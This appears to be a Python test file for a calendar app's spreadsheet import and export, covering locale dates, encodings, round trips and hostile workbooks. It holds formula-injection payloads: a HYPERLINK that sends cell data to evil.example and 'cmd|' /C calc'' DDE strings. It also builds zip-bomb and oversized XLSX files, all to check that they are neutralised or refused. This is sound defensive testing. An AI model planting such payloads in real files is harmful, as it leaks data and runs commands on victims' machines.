"""Plans saved by Excel and LibreOffice in other locales, CSV formulas, exact round trips and
hostile workbooks (issues 12 and 16): what the spreadsheet import must read, and refuse."""

from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from core.calendar.imports import ImportRejected
from core.calendar.observances import list_occurrences
from core.calendar.posts import PostFields, create_post, get_post, list_posts
from core.calendar.tables import MAX_ROWS, export_csv, export_xlsx, import_table
from core.errors import KnownError
from core.storage.database import Database
from tests.core.calendar.test_ics import FIRST, LAST, make_plan, versions
from tests.xlsxcraft import write_xlsx

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "spreadsheets"


def by_title(db: Database) -> dict[str, dict]:
    return {p["title"]: p for p in list_posts(db)}


# ------------------------------------------------------------------------------ locales

def test_excel_en_us_dates_and_12_hour_times(db: Database) -> None:
    report = import_table(db, FIXTURES / "excel_en_us.csv", default_tz="UTC")
    assert report.created == 4
    posts = by_title(db)
    qa = posts["Visa Q&A live"]
    assert (qa["start"], qa["duration_minutes"]) == ("2026-12-03T09:30:00+05:00", 30)
    assert posts["Evening concert post"]["start"] == "2026-12-10T19:00:00+05:00"
    assert posts["Noon greeting"]["start"] == "2026-12-11T12:00:00+05:00"
    assert posts["Midnight countdown"]["start"] == "2026-12-31T00:00:00+05:00"
    again = import_table(db, FIXTURES / "excel_en_us.csv", default_tz="UTC")
    assert (again.created, again.updated, again.unchanged) == (0, 0, 4)  # stable uids


def test_russian_windows_csv_in_cp1251_with_semicolons(db: Database) -> None:
    report = import_table(db, FIXTURES / "libreoffice_ru_cp1251.csv", default_tz="UTC")
    assert report.created == 3
    assert report.warnings == ["libreoffice_ru_cp1251.csv was read as windows-1251 text with "
                               "semicolons between cells"]
    posts = by_title(db)
    assert posts["Поздравление с Днём Конституции"]["start"] == "2026-12-08T10:00:00+05:00"
    assert posts["Неделя прав человека"]["start"] == "2026-12-10"
    assert posts["Интервью посла"]["body"] == "Вопросы; ответы"


def test_slashed_dates_the_file_cannot_settle_are_refused_with_the_line(db: Database) -> None:
    with pytest.raises(ImportRejected) as caught:
        import_table(db, FIXTURES / "ambiguous_slashes.csv", default_tz="UTC")
    assert [str(e) for e in caught.value.report.errors] == [
        "line 2: the date '03/04/2027' could be day 3 or day 4 of the month; write it as "
        "YYYY-MM-DD"]
    assert list_posts(db) == []


def test_a_day_over_12_settles_the_order_for_the_whole_file(db: Database,
                                                            tmp_path: Path) -> None:
    path = tmp_path / "uk.csv"
    path.write_text("title,date,time,tz\nA,03/04/2027,10:00,UTC\nB,25/04/2027,10:00,UTC\n",
                    encoding="utf-8")
    import_table(db, path, default_tz="UTC")
    assert by_title(db)["A"]["start"].startswith("2027-04-03T10:00")


def test_a_western_ansi_file_is_refused_with_its_line(db: Database) -> None:
    with pytest.raises(KnownError, match=r"western_cp1252.csv line 2: the text is neither "
                                         r"UTF-8 nor Cyrillic windows-1251"):
        import_table(db, FIXTURES / "western_cp1252.csv", default_tz="UTC")


def test_xlsx_with_times_typed_as_text(db: Database, tmp_path: Path) -> None:
    book = Workbook()
    sheet = book.active
    sheet.append(["title", "date", "time", "tz"])
    sheet.append(["Typed", "12/10/2026", "09:30:00 PM", "Asia/Almaty"])
    sheet.append(["Real cells", datetime(2026, 12, 11), datetime(2026, 12, 11, 8, 15).time(),
                  "Asia/Almaty"])
    book.save(tmp_path / "plan.xlsx")
    import_table(db, tmp_path / "plan.xlsx", default_tz="UTC")
    posts = by_title(db)
    assert posts["Typed"]["start"] == "2026-12-10T21:30:00+05:00"
    assert posts["Real cells"]["start"] == "2026-12-11T08:15:00+05:00"


def test_bad_12_hour_times_are_named(db: Database, tmp_path: Path) -> None:
    path = tmp_path / "bad.csv"
    path.write_text("title,date,time\nA,2026-12-01,13:00 PM\nB,2026-12-01,09:30:15\n",
                    encoding="utf-8")
    with pytest.raises(ImportRejected) as caught:
        import_table(db, path, default_tz="UTC")
    assert [str(e) for e in caught.value.report.errors] == [
        "line 2: bad time '13:00 PM' (use HH:MM, e.g. 09:30, or 9:30 AM)",
        "line 3: bad time '09:30:15': posts are planned to the minute"]


# ------------------------------------------------------------------------------ round trips

def test_an_unchanged_export_with_trailing_spaces_changes_nothing(db: Database,
                                                                   tmp_path: Path) -> None:
    make_plan(db)
    create_post(db, PostFields(title="Spaces", body="Ends with a space ", notes="and a line\n",
                               owner=" Dilnoza", day=date(2026, 12, 20), tz="UTC"))
    create_post(db, PostFields(title="Newline body", body="Two lines\nand a newline\n",
                               at=datetime(2026, 12, 21, 9, 0, tzinfo=UTC), tz="UTC"))
    before = versions(db)
    for name, data in (("plan.csv", export_csv(list_posts(db), list_occurrences(db, FIRST, LAST))),
                       ("plan.xlsx", export_xlsx(list_posts(db),
                                                 list_occurrences(db, FIRST, LAST)))):
        (tmp_path / name).write_bytes(data)
        report = import_table(db, tmp_path / name, default_tz="UTC")
        assert (report.created, report.updated) == (0, 0), name
    assert versions(db) == before


HOSTILE = {"title": '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
           "body": "+cmd|' /C calc'!A0", "notes": "-2+3+cmd|' /C calc'!A0",
           "owner": "@SUM(1+1)*cmd|' /C calc'!A0"}


def test_csv_export_neutralises_formulas_and_imports_them_back_unchanged(
        db: Database, tmp_path: Path) -> None:
    post_id = create_post(db, PostFields(**HOSTILE, day=date(2026, 12, 20), tz="UTC"))
    tab = create_post(db, PostFields(title="Tab", notes="\tTabbed", body="'=already quoted",
                                     day=date(2026, 12, 21), tz="UTC"))
    data = export_csv(list_posts(db), [])
    rows = {r["id"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    row = rows[str(post_id)]
    for column, value in HOSTILE.items():
        assert row[column] == "'" + value  # Excel shows it as text, never runs it
    assert rows[str(tab)]["notes"] == "'\tTabbed"
    assert rows[str(tab)]["body"] == "''=already quoted"
    (tmp_path / "plan.csv").write_bytes(data)
    report = import_table(db, tmp_path / "plan.csv", default_tz="UTC")
    assert (report.created, report.updated, report.unchanged) == (0, 0, 2)
    assert get_post(db, post_id)["title"] == HOSTILE["title"].strip()


def test_xlsx_export_keeps_hostile_text_as_text_cells(db: Database, tmp_path: Path) -> None:
    create_post(db, PostFields(**HOSTILE, day=date(2026, 12, 20), tz="UTC"))
    (tmp_path / "plan.xlsx").write_bytes(export_xlsx(list_posts(db), []))
    sheet = load_workbook(tmp_path / "plan.xlsx").active
    header = [c.value for c in sheet[1]]
    cells = {header[i]: c for i, c in enumerate(sheet[2])}
    for column, value in HOSTILE.items():
        assert (cells[column].data_type, cells[column].value) == ("s", value)
    report = import_table(db, tmp_path / "plan.xlsx", default_tz="UTC")
    assert (report.created, report.updated) == (0, 0)


# ------------------------------------------------------------------------------ issue 16 #12

def test_an_xlsx_with_more_rows_than_the_limit_is_refused_while_streaming(
        db: Database, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "rows.xlsx", ["title", "date"],
                      (["x", "2026-12-01"] for _ in range(MAX_ROWS + 500)))
    assert path.stat().st_size < 1_000_000  # small on disk
    with pytest.raises(KnownError, match=f"more than {MAX_ROWS} rows; at most {MAX_ROWS}"):
        import_table(db, path, default_tz="UTC")
    assert list_posts(db) == []


def test_an_xlsx_zip_bomb_is_refused_before_unpacking(db: Database, tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "bomb.xlsx", ["title", "date"], [["x", "2026-12-01"]],
                      extra_part=("xl/sharedStrings.xml", 160 * 1024 * 1024))
    assert path.stat().st_size < 1_000_000
    with pytest.raises(KnownError, match=r"its part xl/sharedStrings.xml unpacks to 160 MiB; "
                                         r"at most 128 MiB per part"):
        import_table(db, path, default_tz="UTC")


def test_a_declared_sheet_of_a_million_columns_is_not_padded(db: Database,
                                                              tmp_path: Path) -> None:
    path = write_xlsx(tmp_path / "wide.xlsx", ["title", "date"], [["Wide", "2026-12-01"]],
                      dimension="A1:XFD1048576")
    assert import_table(db, path, default_tz="UTC").created == 1


def test_an_uzbek_latin_cp1251_file_with_only_typographic_punctuation_is_read(
        db: Database) -> None:
    """Excel on a Russian-locale desktop saving an Uzbek Latin plan: its only non-ASCII bytes
    are ‘ – — “ ” …, which windows-1251 and windows-1252 read alike; it was refused as
    "neither UTF-8 nor Cyrillic"."""
    report = import_table(db, FIXTURES / "excel_uz_latin_cp1251.csv", default_tz="UTC")
    assert report.created == 2
    assert report.warnings == ["excel_uz_latin_cp1251.csv was read as windows-1251 text with "
                               "semicolons between cells"]
    post = by_title(db)["O‘zbekiston Respublikasi Konstitutsiyasi kuni – tabrik"]
    assert post["body"] == "“Konstitutsiya kuni muborak!” — elchixona"
    assert post["start"] == "2026-12-08T10:00:00+05:00"
    assert by_title(db)["Mustaqillik kuni"]["body"] == "Bayram …"
